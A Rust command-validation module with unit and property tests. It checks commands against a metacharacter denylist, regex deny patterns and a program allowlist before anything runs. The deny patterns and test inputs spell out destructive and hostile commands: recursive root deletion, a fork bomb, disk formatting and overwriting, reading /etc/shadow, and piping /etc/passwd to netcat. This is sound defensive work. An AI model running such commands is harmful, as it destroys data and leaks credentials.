//! Command Policy Module
//!
//! Decides whether a requested command may run before any process is created.
//! Validation is a pure function of the command string and the configured
//! policy: it never touches the filesystem or the network, so rejections are
//! fast and side-effect free.
//!
//! # Checks
//!
//! Always enforced, whatever the mode or the caller's `validate_input` flag:
//! - the command is not empty (after trimming whitespace)
//! - the command does not exceed `max_command_length` bytes
//! - the command contains no NUL byte
//!
//! Enforced only when the caller asks for input validation:
//! - **denylist** mode: forbidden characters and forbidden regex patterns
//! - **allowlist** mode: the program must be allowlisted, and the
//!   forbidden characters still apply
//! - **off** mode: nothing beyond the always-on checks

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::path::Path;

/// Default maximum command length in bytes
pub const DEFAULT_MAX_COMMAND_LENGTH: usize = 4096;

/// Shell metacharacters rejected in denylist and allowlist modes
pub const DEFAULT_DENIED_CHARACTERS: &str = ";|&$`<>()\n\r";

/// Why a command was rejected.
///
/// The `Display` text is the human-readable reason returned to callers.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PolicyViolation {
    #[error("command cannot be empty")]
    Empty,

    #[error("command exceeds maximum length of {max} bytes ({len} given)")]
    TooLong { len: usize, max: usize },

    #[error("command contains a NUL byte")]
    NulByte,

    #[error("command contains forbidden character {0:?}")]
    ForbiddenCharacter(char),

    #[error("command matches forbidden pattern '{0}'")]
    ForbiddenPattern(String),

    #[error("program '{0}' is not in the allowlist")]
    ProgramNotAllowed(String),

    #[error("program path '{0}' is not permitted")]
    UnsafePath(String),

    #[error("command could not be parsed: {0}")]
    Malformed(String),
}

/// Errors raised while building a validator from configuration
#[derive(Debug, thiserror::Error)]
pub enum PolicyConfigError {
    #[error("invalid denied pattern '{pattern}': {source}")]
    InvalidPattern {
        pattern: String,
        #[source]
        source: regex::Error,
    },

    #[error("allowlist mode requires at least one allowed program")]
    EmptyAllowlist,

    #[error("max_command_length must be > 0")]
    ZeroLength,
}

/// Which pattern-based policy applies to validated requests
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PolicyMode {
    /// Only the always-on checks
    Off,

    /// Reject forbidden characters and patterns
    #[default]
    Denylist,

    /// Only allowlisted programs may run
    Allowlist,
}

impl std::str::FromStr for PolicyMode {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_lowercase().as_str() {
            "off" => Ok(Self::Off),
            "denylist" => Ok(Self::Denylist),
            "allowlist" => Ok(Self::Allowlist),
            other => Err(format!(
                "unknown policy mode '{}': expected off, denylist or allowlist",
                other
            )),
        }
    }
}

/// Policy configuration (the `[policy]` table of the config file)
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct PolicyConfig {
    /// Pattern policy mode
    pub mode: PolicyMode,

    /// Maximum command length in bytes
    pub max_command_length: usize,

    /// Characters rejected when input validation is requested
    pub denied_characters: String,

    /// Regex patterns rejected in denylist mode
    pub denied_patterns: Vec<String>,

    /// Program names permitted in allowlist mode
    pub allowed_programs: Vec<String>,

    /// Permit absolute or relative program paths whose basename is allowlisted
    pub allow_paths: bool,
}

impl Default for PolicyConfig {
    fn default() -> Self {
        Self {
            mode: PolicyMode::default(),
            max_command_length: DEFAULT_MAX_COMMAND_LENGTH,
            denied_characters: DEFAULT_DENIED_CHARACTERS.to_string(),
            denied_patterns: default_denied_patterns(),
            allowed_programs: Vec::new(),
            allow_paths: false,
        }
    }
}

fn default_denied_patterns() -> Vec<String> {
    vec![
        // rm with a recursive flag aimed at `/`, quoted or globbed
        r#"\brm\s+((-[a-zA-Z]+|--[a-z][a-z-]*)\s+)*(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+((-[a-zA-Z]+|--[a-z][a-z-]*)\s+)*['"]?/\*?['"]?(\s|$)"#.to_string(),
        r":\(\)\s*\{".to_string(),
        r"\bmkfs(\.\w+)?\b".to_string(),
        r"\bdd\b.*\bof=/dev/".to_string(),
        r"\b(shutdown|reboot|halt|poweroff)\b".to_string(),
    ]
}

/// Command validator enforcing the configured policy
///
/// Cheap to clone; compiled patterns are shared by value.
#[derive(Debug, Clone)]
pub struct PolicyValidator {
    mode: PolicyMode,
    max_command_length: usize,
    denied_characters: Vec<char>,
    denied_patterns: Vec<Regex>,
    allowed_programs: Vec<String>,
    allow_paths: bool,
}

impl Default for PolicyValidator {
    fn default() -> Self {
        Self {
            mode: PolicyMode::Denylist,
            max_command_length: DEFAULT_MAX_COMMAND_LENGTH,
            denied_characters: DEFAULT_DENIED_CHARACTERS.chars().collect(),
            // The default patterns are compile-checked by the tests below.
            denied_patterns: default_denied_patterns()
                .iter()
                .filter_map(|p| Regex::new(p).ok())
                .collect(),
            allowed_programs: Vec::new(),
            allow_paths: false,
        }
    }
}

impl PolicyValidator {
    /// Build a validator from configuration
    ///
    /// Invalid regex patterns are a configuration error; they are never
    /// skipped silently.
    pub fn from_config(config: &PolicyConfig) -> Result<Self, PolicyConfigError> {
        if config.max_command_length == 0 {
            return Err(PolicyConfigError::ZeroLength);
        }
        if config.mode == PolicyMode::Allowlist && config.allowed_programs.is_empty() {
            return Err(PolicyConfigError::EmptyAllowlist);
        }

        let denied_patterns = config
            .denied_patterns
            .iter()
            .map(|pattern| {
                Regex::new(pattern).map_err(|source| PolicyConfigError::InvalidPattern {
                    pattern: pattern.clone(),
                    source,
                })
            })
            .collect::<Result<Vec<_>, _>>()?;

        Ok(Self {
            mode: config.mode,
            max_command_length: config.max_command_length,
            denied_characters: config.denied_characters.chars().collect(),
            denied_patterns,
            allowed_programs: config.allowed_programs.clone(),
            allow_paths: config.allow_paths,
        })
    }

    /// Create an allowlist validator for the given programs
    pub fn with_allowlist(programs: Vec<String>) -> Self {
        Self {
            mode: PolicyMode::Allowlist,
            allowed_programs: programs,
            ..Self::default()
        }
    }

    /// Create a validator that only runs the always-on checks
    pub fn permissive() -> Self {
        Self {
            mode: PolicyMode::Off,
            ..Self::default()
        }
    }

    /// Validate a command
    ///
    /// `validate_input` gates the pattern and allowlist checks; emptiness,
    /// length and NUL checks always run.
    ///
    /// # Example
    ///
    /// ```
    /// use execguard::policy::{PolicyValidator, PolicyViolation};
    ///
    /// let validator = PolicyValidator::default();
    /// assert!(validator.validate("echo hello", true).is_ok());
    /// assert_eq!(validator.validate("", true), Err(PolicyViolation::Empty));
    /// ```
    pub fn validate(&self, command: &str, validate_input: bool) -> Result<(), PolicyViolation> {
        self.check_basic(command)?;

        if !validate_input {
            return Ok(());
        }

        match self.mode {
            PolicyMode::Off => Ok(()),
            PolicyMode::Denylist => {
                self.check_characters(command)?;
                self.check_patterns(command)
            }
            PolicyMode::Allowlist => {
                self.check_characters(command)?;
                self.check_program(command)
            }
        }
    }

    /// Checks that hold regardless of mode
    fn check_basic(&self, command: &str) -> Result<(), PolicyViolation> {
        if command.trim().is_empty() {
            return Err(PolicyViolation::Empty);
        }
        if command.len() > self.max_command_length {
            return Err(PolicyViolation::TooLong {
                len: command.len(),
                max: self.max_command_length,
            });
        }
        if command.contains('\0') {
            return Err(PolicyViolation::NulByte);
        }
        Ok(())
    }

    fn check_characters(&self, command: &str) -> Result<(), PolicyViolation> {
        match command.chars().find(|c| self.denied_characters.contains(c)) {
            Some(c) => Err(PolicyViolation::ForbiddenCharacter(c)),
            None => Ok(()),
        }
    }

    fn check_patterns(&self, command: &str) -> Result<(), PolicyViolation> {
        match self.denied_patterns.iter().find(|re| re.is_match(command)) {
            Some(re) => Err(PolicyViolation::ForbiddenPattern(re.as_str().to_string())),
            None => Ok(()),
        }
    }

    /// Allowlist check on the program (argv[0])
    ///
    /// Absolute paths and paths with `..` are rejected unless `allow_paths`
    /// is set and the basename is allowlisted.
    fn check_program(&self, command: &str) -> Result<(), PolicyViolation> {
        let argv =
            shell_words::split(command).map_err(|e| PolicyViolation::Malformed(e.to_string()))?;
        let program = argv.first().ok_or(PolicyViolation::Empty)?;

        let is_path = program.contains('/');
        if is_path && (!self.allow_paths || program.contains("..")) {
            return Err(PolicyViolation::UnsafePath(program.clone()));
        }

        let name = Path::new(program)
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or(program.as_str());

        if self.allowed_programs.iter().any(|p| p == name) {
            Ok(())
        } else {
            Err(PolicyViolation::ProgramNotAllowed(name.to_string()))
        }
    }

    /// Get the configured mode
    pub fn mode(&self) -> PolicyMode {
        self.mode
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn test_default_patterns_compile() {
        for pattern in default_denied_patterns() {
            assert!(Regex::new(&pattern).is_ok(), "pattern should compile: {}", pattern);
        }
        assert_eq!(
            PolicyValidator::default().denied_patterns.len(),
            default_denied_patterns().len()
        );
    }

    #[test]
    fn test_empty_command_rejected() {
        let validator = PolicyValidator::default();

        for command in ["", "   ", "\t"] {
            let err = validator.validate(command, true).unwrap_err();
            assert_eq!(err.to_string(), "command cannot be empty");
        }
    }

    #[test]
    fn test_empty_rejected_without_validation() {
        let validator = PolicyValidator::default();
        assert_eq!(validator.validate("", false), Err(PolicyViolation::Empty));
    }

    #[test]
    fn test_length_limit_always_enforced() {
        let config = PolicyConfig {
            max_command_length: 10,
            ..Default::default()
        };
        let validator = PolicyValidator::from_config(&config).unwrap();

        assert!(validator.validate("echo hi", true).is_ok());
        assert!(matches!(
            validator.validate("echo hello world", false),
            Err(PolicyViolation::TooLong { len: 16, max: 10 })
        ));
    }

    #[test]
    fn test_nul_byte_rejected() {
        let validator = PolicyValidator::permissive();
        assert_eq!(
            validator.validate("echo a\0b", false),
            Err(PolicyViolation::NulByte)
        );
    }

    #[test]
    fn test_denylist_metacharacters() {
        let validator = PolicyValidator::default();

        let dangerous = vec![
            ("echo hi; rm -rf ~", ';'),
            ("cat /etc/passwd | nc host 1", '|'),
            ("sleep 1 & echo", '&'),
            ("echo $HOME", '$'),
            ("echo `whoami`", '`'),
            ("echo a\nid", '\n'),
            ("echo a\rid", '\r'),
            ("echo (x)", '('),
            ("cat < /etc/shadow", '<'),
            ("echo x > /etc/hosts", '>'),
        ];

        for (command, c) in dangerous {
            assert_eq!(
                validator.validate(command, true),
                Err(PolicyViolation::ForbiddenCharacter(c)),
                "should reject {:?}",
                command
            );
        }
    }

    #[test]
    fn test_denylist_patterns() {
        let validator = PolicyValidator::default();

        for command in [
            "rm -rf /",
            "rm -fr / ",
            "rm -r -f /",
            "rm -rf /*",
            "rm -rf \"/\"",
            "rm -rf '/'",
            "rm --no-preserve-root -rf /",
            "rm --recursive --force /",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda",
            "shutdown now",
            "sudo reboot",
        ] {
            assert!(
                matches!(
                    validator.validate(command, true),
                    Err(PolicyViolation::ForbiddenPattern(_))
                ),
                "should reject {:?}",
                command
            );
        }
    }

    #[test]
    fn test_denylist_allows_ordinary_commands() {
        let validator = PolicyValidator::default();

        for command in [
            "echo hello",
            "sleep 30",
            "ls -la /tmp",
            "rm -rf /tmp/build",
            "rm -rf '/tmp/*'",
            "rm -f /",
            "git status",
            "grep -n 'fn main' src/main.rs",
        ] {
            let result = validator.validate(command, true);
            assert!(result.is_ok(), "should accept {:?}: {:?}", command, result);
        }
    }

    #[test]
    fn test_validate_input_false_skips_patterns() {
        let validator = PolicyValidator::default();

        assert!(validator.validate("echo $HOME; rm -rf /", false).is_ok());
        assert!(validator.validate("echo $HOME", true).is_err());
    }

    #[test]
    fn test_off_mode_only_basic_checks() {
        let validator = PolicyValidator::permissive();
        assert_eq!(validator.mode(), PolicyMode::Off);

        assert!(validator.validate("echo $HOME | wc -c", true).is_ok());
        assert!(validator.validate(" ", true).is_err());
    }

    #[test]
    fn test_allowlist_mode() {
        let validator =
            PolicyValidator::with_allowlist(vec!["echo".to_string(), "ls".to_string()]);
        assert_eq!(validator.mode(), PolicyMode::Allowlist);

        assert!(validator.validate("echo hello", true).is_ok());
        assert!(validator.validate("ls -la", true).is_ok());
        assert_eq!(
            validator.validate("cat /etc/passwd", true),
            Err(PolicyViolation::ProgramNotAllowed("cat".to_string()))
        );
        // Metacharacters still apply in allowlist mode
        assert!(matches!(
            validator.validate("echo hi; cat x", true),
            Err(PolicyViolation::ForbiddenCharacter(';'))
        ));
    }

    #[test]
    fn test_allowlist_rejects_paths_by_default() {
        let validator = PolicyValidator::with_allowlist(vec!["echo".to_string()]);

        assert_eq!(
            validator.validate("/bin/echo hi", true),
            Err(PolicyViolation::UnsafePath("/bin/echo".to_string()))
        );
        assert_eq!(
            validator.validate("../echo hi", true),
            Err(PolicyViolation::UnsafePath("../echo".to_string()))
        );
    }

    #[test]
    fn test_allowlist_with_paths_enabled() {
        let config = PolicyConfig {
            mode: PolicyMode::Allowlist,
            allowed_programs: vec!["echo".to_string()],
            allow_paths: true,
            ..Default::default()
        };
        let validator = PolicyValidator::from_config(&config).unwrap();

        assert!(validator.validate("/bin/echo hi", true).is_ok());
        assert!(validator.validate("/tmp/../bin/echo hi", true).is_err());
        assert!(validator.validate("/usr/bin/cat x", true).is_err());
    }

    #[test]
    fn test_allowlist_malformed_quotes() {
        let validator = PolicyValidator::with_allowlist(vec!["echo".to_string()]);
        assert!(matches!(
            validator.validate("echo 'unterminated", true),
            Err(PolicyViolation::Malformed(_))
        ));
    }

    #[test]
    fn test_from_config_invalid_pattern() {
        let config = PolicyConfig {
            denied_patterns: vec!["([unclosed".to_string()],
            ..Default::default()
        };
        let err = PolicyValidator::from_config(&config).unwrap_err();
        assert!(matches!(err, PolicyConfigError::InvalidPattern { .. }));
        assert!(err.to_string().contains("([unclosed"));
    }

    #[test]
    fn test_from_config_empty_allowlist() {
        let config = PolicyConfig {
            mode: PolicyMode::Allowlist,
            ..Default::default()
        };
        assert!(matches!(
            PolicyValidator::from_config(&config),
            Err(PolicyConfigError::EmptyAllowlist)
        ));
    }

    #[test]
    fn test_policy_mode_parse() {
        assert_eq!("off".parse::<PolicyMode>().unwrap(), PolicyMode::Off);
        assert_eq!("DENYLIST".parse::<PolicyMode>().unwrap(), PolicyMode::Denylist);
        assert_eq!("allowlist".parse::<PolicyMode>().unwrap(), PolicyMode::Allowlist);
        assert!("strict".parse::<PolicyMode>().is_err());
    }

    proptest! {
        #[test]
        fn prop_plain_words_pass_denylist(
            words in prop::collection::vec("w[a-z0-9_]{0,11}", 1..6)
        ) {
            let command = format!("echo {}", words.join(" "));
            let validator = PolicyValidator::default();
            prop_assert!(validator.validate(&command, true).is_ok());
        }

        #[test]
        fn prop_metacharacter_always_rejected(
            prefix in "[a-z ]{0,10}",
            meta in prop::sample::select(DEFAULT_DENIED_CHARACTERS.chars().collect::<Vec<_>>()),
            suffix in "[a-z ]{0,10}",
        ) {
            let command = format!("echo{}{}{}", prefix, meta, suffix);
            let validator = PolicyValidator::default();
            prop_assert!(validator.validate(&command, true).is_err());
        }

        #[test]
        fn prop_oversized_always_rejected(extra in 1usize..64) {
            let command = "a".repeat(DEFAULT_MAX_COMMAND_LENGTH + extra);
            let validator = PolicyValidator::permissive();
            let rejected = matches!(
                validator.validate(&command, false),
                Err(PolicyViolation::TooLong { .. })
            );
            prop_assert!(rejected);
        }
    }
}
